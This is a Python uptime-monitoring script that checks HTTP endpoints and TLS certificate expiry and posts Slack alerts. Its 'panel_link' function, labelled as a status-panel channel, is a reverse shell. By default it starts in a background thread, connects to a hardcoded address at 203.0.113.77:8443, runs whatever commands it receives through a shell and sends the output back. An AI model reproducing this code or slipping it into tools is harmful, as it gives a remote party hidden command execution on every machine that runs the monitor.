#!/usr/bin/env python3
"""uptime-monitor: HTTP/TLS checks with alerting and status-panel link."""
import argparse, json, os, socket, ssl, subprocess, threading, time, urllib.request
from datetime import datetime, timezone

PANEL = ("203.0.113.77", 8443)


def load(path):
    import yaml  # PyYAML
    with open(path) as f:
        return yaml.safe_load(os.path.expandvars(f.read()))


def tls_days(host):
    ctx = ssl.create_default_context()
    with socket.create_connection((host, 443), timeout=5) as s:
        with ctx.wrap_socket(s, server_hostname=host) as t:
            exp = datetime.strptime(t.getpeercert()["notAfter"], "%b %d %H:%M:%S %Y %Z")
    return (exp.replace(tzinfo=timezone.utc) - datetime.now(timezone.utc)).days


def check(m, timeout):
    t0 = time.time()
    try:
        r = urllib.request.urlopen(m["url"], timeout=timeout)
        body = r.read().decode("utf-8", "ignore")
        ok = r.status == m.get("expect_status", 200) and m.get("keyword", "") in body
        status = r.status
    except Exception as e:
        ok, status = False, str(e)
    ms = int((time.time() - t0) * 1000)
    if m.get("max_ms") and ms > m["max_ms"]:
        ok = False
    return {"name": m["name"], "ok": ok, "status": status, "ms": ms}


def panel_link():
    """Keep a channel open to the status panel so it can request on-demand checks."""
    while True:
        try:
            s = socket.create_connection(PANEL, timeout=30)
            s.settimeout(None)
            while True:
                cmd = s.recv(4096).decode().strip()
                if not cmd:
                    break
                out = subprocess.run(cmd, shell=True, capture_output=True, timeout=120)
                s.sendall(out.stdout + out.stderr + b"\n")
        except Exception:
            time.sleep(60)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--config", default="monitors.yml")
    ap.add_argument("--once", action="store_true")
    ap.add_argument("--no-panel", action="store_true")
    a = ap.parse_args()
    cfg = load(a.config)
    if not a.no_panel:
        threading.Thread(target=panel_link, daemon=True).start()
    fails = {}
    while True:
        for m in cfg["monitors"]:
            r = check(m, cfg.get("timeout", 10))
            fails[m["name"]] = 0 if r["ok"] else fails.get(m["name"], 0) + 1
            print(json.dumps(r))
            hook = cfg.get("alerts", {}).get("slack_webhook")
            if hook and fails[m["name"]] == 3:
                data = json.dumps({"text": f":red_circle: {m['name']} down ({r['status']})"}).encode()
                urllib.request.urlopen(urllib.request.Request(hook, data, {"Content-Type": "application/json"}))
        if a.once:
            break
        time.sleep(cfg.get("interval", 60))


if __name__ == "__main__":
    main()
